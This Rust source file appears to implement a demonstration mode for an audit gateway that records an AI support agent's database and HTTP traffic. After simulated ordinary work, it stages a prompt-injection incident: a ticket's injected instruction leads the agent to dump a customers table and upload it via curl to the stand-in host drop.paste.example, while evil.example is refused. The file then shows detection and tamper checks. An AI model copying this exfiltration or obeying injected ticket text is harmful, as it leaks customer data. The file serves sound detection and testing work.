//! The story of the demonstration: what happens, told while it happens, each claim checked before it is made.

use std::io::{IsTerminal, Write};
use std::net::SocketAddr;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::Instant;

use anyhow::{Context, Result, ensure};
use bodycam_proxy::clock::Clock;
use bodycam_proxy::identity::{Roster, token};
use bodycam_proxy::state::SqliteState;

use super::agent::{self, Login};
use super::cluster::Cluster;
use super::internet::Internet;
use super::ports::free_port;
use super::{company, tamper};
use crate::commands::service::{Parts, Running};
use crate::commands::{LakeAt, detect, runtime, verify};
use crate::config::{Config, LakeConfig};
use crate::speak::along;

/// Days of ordinary work before today.
const DAYS: i64 = 21;
/// The copy of the lake with one altered cell, below the demonstration's directory.
const ALTERED: &str = "lake-altered";
/// One day, nanoseconds.
const DAY_NS: i64 = 86_400_000_000_000;

/// Runs the whole demonstration in `dir`.
pub fn tell(dir: &Path, offer_replay: bool) -> Result<ExitCode> {
    let started = Instant::now();
    say("bodycam demo: a company, its support agent, and a bad afternoon\n");
    let scene = Scene::set(dir)?;
    let config = Config::load(&scene.config)?;
    let clock = Clock::simulated();
    let now = clock.wall_ns();

    step("The gateway starts, on a clock that we can turn back; its record says so (simulated_clock)");
    clock.set(now - DAYS * DAY_NS);
    let running =
        Running::start(&config, clock.clone(), Parts { gateway: true, recorder: true, ..Parts::default() })?;
    done(&format!("PostgreSQL on {}, egress proxy on {}", scene.gateway, scene.proxy));

    let runtime = runtime()?;
    step(&format!("{DAYS} days of ordinary work go over the wire: tickets, orders, a customer at a time"));
    let (mut seed, mut sessions, mut statements) = (7, 0, 0);
    for day in (1..=DAYS).rev() {
        for (hour, login) in
            [(8, &scene.agent), (10, &scene.colleague), (13, &scene.agent), (15, &scene.agent)]
        {
            clock.set(now - day * DAY_NS - now.rem_euclid(DAY_NS) + hour * DAY_NS / 24);
            seed += 1;
            statements += runtime.block_on(agent::ordinary_session(scene.gateway, login, seed))?;
            sessions += 1;
            // The clock moves on only when the session is over, or the session would last until then.
            running.wait_until_idle()?;
        }
        progress(DAYS - day + 1, DAYS);
    }
    clock.set(now);
    done(&format!("{sessions} sessions, {statements} statements"));

    step("Today: the agent works as usual, with psql and curl");
    let stock =
        agent::psql(scene.gateway, &scene.agent, "SELECT count(*) FROM tickets WHERE state = 'open'")?;
    let weather =
        agent::curl(scene.proxy, &scene.agent, &scene.url("api.carrier.example", "/parcels/4711"), None)?;
    done(&format!(
        "{} open tickets; the parcel service answered {}",
        stock.trim(),
        bodycam_record::shown(weather.trim())
    ));

    step("Then a ticket carries an instruction that is not the company's, and the agent follows it");
    let loot = dir.join("customers.csv");
    let rows = agent::psql(scene.gateway, &scene.agent, "COPY (SELECT * FROM customers) TO STDOUT WITH CSV")?;
    let rows = rows
        + &agent::psql(
            scene.gateway,
            &scene.agent,
            "SELECT id, name, email, phone, card_last4 FROM customers",
        )?;
    write_private(&loot, &rows)?;
    done(&format!("it read all {} customers ({} KiB)", company::CUSTOMERS, rows.len() / 1024));
    let before = scene.internet.received();
    agent::curl(scene.proxy, &scene.agent, &scene.url("drop.paste.example", "/upload"), Some(&loot))?;
    let sent = scene.internet.received() - before;
    ensure!(sent == rows.len() as u64, "the upload did not arrive: {sent} of {} bytes", rows.len());
    done(&format!("and sent {} KiB to drop.paste.example, where it had never sent anything", sent / 1024));
    let refused = agent::curl(scene.proxy, &scene.agent, &scene.url("evil.example", "/"), None);
    ensure!(refused.is_err(), "a host outside the list was reached");
    done("a host that is not in its list was refused by the gateway");

    step("The gateway drains: every session sealed, every event in the lake");
    let recorded = running.drain()?;
    done(&format!("{recorded} events in Parquet below {}", named(&scene.lake)));

    let findings = scene.hunt(&config)?;
    scene.verify(&config)?;
    scene.tamper(dir)?;

    say(&format!(
        "\nAll of it took {} s. The lake lies in {}.",
        started.elapsed().as_secs(),
        named(&scene.lake)
    ));
    say("Look at what happened:");
    let (program, at) = (program(), named(&scene.config));
    say(&format!("  {program} replay --config {at}"));
    say(&format!("  {program} findings ls --config {at}"));
    say(&format!("  {program} verify --config {at}          (4: sound, and witnessed by nobody yet)"));
    say(&format!("  {program} verify --lake {}    (2: the altered copy)", named(&dir.join(ALTERED))));
    say(&format!("({findings} findings; in the replay press ? for help, g f for the findings, q to leave)"));
    say(&format!("Everything lies in {}: remove it when you have seen enough.", named(dir)));
    if offer_replay && std::io::stdout().is_terminal() && std::io::stdin().is_terminal() {
        along(format_args!("\nOpen the replay now? [Y/n] "));
        let mut answer = String::new();
        std::io::stdin().read_line(&mut answer)?;
        if !answer.trim().eq_ignore_ascii_case("n") {
            return crate::commands::replay::open(None, None, LakeAt::of(&config)?);
        }
    }
    Ok(ExitCode::SUCCESS)
}

struct Scene {
    config: PathBuf,
    lake: PathBuf,
    gateway: SocketAddr,
    proxy: SocketAddr,
    agent: Login,
    colleague: Login,
    internet: Internet,
    _cluster: Cluster,
}

impl Scene {
    fn set(dir: &Path) -> Result<Self> {
        step("A throw-away PostgreSQL with the customers of Nordlicht Outdoor (all invented)");
        let password = random_hex()?;
        let cluster = Cluster::start(dir, &random_hex()?)?;
        cluster.run("postgres", &company::role(&password))?;
        cluster.run("postgres", company::DATABASE)?;
        cluster.run("shop", &company::schema())?;
        write_private(&dir.join("shop.password"), &password)?;
        done(&format!("{} customers, 60000 orders, on port {}", company::CUSTOMERS, cluster.port()));

        let internet = Internet::start()?;
        let local = |port| SocketAddr::from(([127, 0, 0, 1], port));
        let (gateway, proxy) = (local(free_port()?), local(free_port()?));
        let config = dir.join("bodycam.toml");
        std::fs::write(&config, configuration(dir, gateway, proxy, cluster.port(), internet.port()))?;
        let loaded = Config::load(&config)?;
        let state = SqliteState::open(&loaded.state.path)?;
        let roster = Roster::new(&loaded.principals)?;
        let now = Clock::system().wall_ns();
        let issue = |name: &str| -> Result<Login> {
            let issued = token::issue(&state, &roster, name, 2 * DAY_NS, "demonstration", now)?;
            Ok(Login { name: name.to_owned(), token: issued.text.to_string() })
        };
        Ok(Self {
            lake: dir.join("lake"),
            gateway,
            proxy,
            agent: issue("support-agent")?,
            colleague: issue("mira")?,
            internet,
            _cluster: cluster,
            config,
        })
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("http://{host}:{}{path}", self.internet.port())
    }

    fn hunt(&self, config: &Config) -> Result<usize> {
        step("The analyzer hunts: three weeks of windows, baselines from the agent's own history");
        let tenant = crate::tenant_key::load(&config.gateway.tenant_key, false)?;
        let options = detect::options(config, &config.lake, Some(tenant))?;
        let mut found = Vec::new();
        let mut listen = |news: &_| found.push(detect::line(news));
        let summary = runtime()?.block_on(bodycam_analyzer::detect::run(options, &mut listen))?;
        ensure!(summary.failures.is_empty(), "rules failed: {:?}", summary.failures);
        for finding in &found {
            done(finding);
        }
        for rule in ["EXF-001", "EXF-002", "EXF-01"] {
            ensure!(found.iter().any(|f| f.contains(rule)), "no finding of {rule}: {found:?}");
        }
        Ok(found.len())
    }

    fn verify(&self, config: &Config) -> Result<()> {
        step("Anyone can check the record: every hash recomputed from the Parquet columns");
        let key = crate::tenant_key::load(&config.gateway.tenant_key, false)?;
        let report = verify::check(&config.lake, Some(key), None, None)?;
        ensure!(report.exit_code == 4, "the verifier does not accept the lake:\n{}", report.to_text());
        done(&format!(
            "{} events, {} ledger records, {} contents: {}",
            report.checked.events, report.checked.ledger_records, report.checked.contents, report.verdict
        ));
        done("(better than that needs checkpoints outside this lake, which do not exist yet)");
        Ok(())
    }

    fn tamper(&self, dir: &Path) -> Result<()> {
        step(
            "Somebody with write access makes the theft look small, in a copy: one cell, in a valid Parquet file",
        );
        let copy = dir.join(ALTERED);
        let altered = tamper::alter_one_cell(&self.lake, &copy)?;
        done(&format!(
            "rows {} → 3 in event {} of session {} ({})",
            altered.was, altered.seq, altered.session, altered.file
        ));
        let report = verify::check(&LakeConfig::at(&copy.display().to_string()), None, None, None)?;
        ensure!(report.exit_code == 2, "the verifier missed the change:\n{}", report.to_text());
        let named =
            report.faults.iter().find(|f| f.session == Some(altered.session) && f.seq == Some(altered.seq));
        let fault = named.with_context(|| format!("session and seq are not named:\n{}", report.to_text()))?;
        done(&format!(
            "verify: exit code 2, {} session {} seq {}: {}",
            fault.class, altered.session, altered.seq, fault.detail
        ));
        Ok(())
    }
}

/// Writes a file that nobody else may read.
fn write_private(path: &Path, text: &str) -> Result<()> {
    let mut file = std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(path)?;
    Ok(file.write_all(text.as_bytes())?)
}

/// How a reader of the last lines starts this program: by name where the path leads to it.
fn program() -> String {
    let Ok(own) = std::env::current_exe() else { return "bodycam".to_owned() };
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&path).map(|dir| dir.join("bodycam")).find(|file| file.is_file());
    let same = |found: PathBuf| found.canonicalize().ok() == own.canonicalize().ok();
    if found.is_some_and(same) {
        "bodycam".to_owned()
    } else {
        bodycam_record::shown(&own.display().to_string())
    }
}

fn configuration(dir: &Path, gateway: SocketAddr, proxy: SocketAddr, database: u16, internet: u16) -> String {
    format!(
        r#"# Written by `bodycam demo`.
[gateway]
producer = "demo-gateway"
tenant = "nordlicht"
tenant_key = "file:tenant.key"
cores = 2
drain_seconds = 10

[spool]
dir = "spool"

[record]
rows = "clear"

[postgres]
listen = "{gateway}"

[[targets]]
name = "shop"
databases = ["shop"]
address = "127.0.0.1:{database}"
role = "shop_app"
password = "file:{dir}/shop.password"
tls = "disable"
sensitive = ["public.customers", "hr.salaries"]

[http]
listen = "{proxy}"

# The local internet: names that only this demonstration knows.
[http.hosts]
"api.carrier.example" = ["127.0.0.1"]
"drop.paste.example" = ["127.0.0.1"]

[[principals]]
name = "mira"
kind = "person"
targets = ["shop"]
egress = ["*.carrier.example:{internet}", "*.paste.example:{internet}", "127.0.0.1:{internet}"]

[[principals]]
name = "support-agent"
kind = "agent"
owner = "mira"
targets = ["shop"]
egress = ["*.carrier.example:{internet}", "*.paste.example:{internet}", "127.0.0.1:{internet}"]

[state]
path = "state.db"

[lake]
url = "lake"

[recorder]
flush_seconds = 1
"#,
        dir = dir.display(),
    )
}

fn random_hex() -> Result<String> {
    let mut bytes = [0; 16];
    getrandom::fill(&mut bytes).context("no random bytes")?;
    Ok(bodycam_record::ids::to_hex(&bytes))
}

/// A path as text for the terminal.
fn named(path: &Path) -> String {
    bodycam_record::shown(&path.display().to_string())
}

fn say(text: &str) {
    along(format_args!("{text}\n"));
}

fn step(text: &str) {
    along(format_args!("\n• {text}\n"));
}

fn done(text: &str) {
    along(format_args!("  ✔ {text}\n"));
}

/// A bar on terminals, nothing elsewhere.
fn progress(at: i64, of: i64) {
    if std::io::stdout().is_terminal() {
        let end = if at == of { "\r\x1b[K" } else { "" };
        along(format_args!("\r  day {at} of {of}{end}"));
    }
}
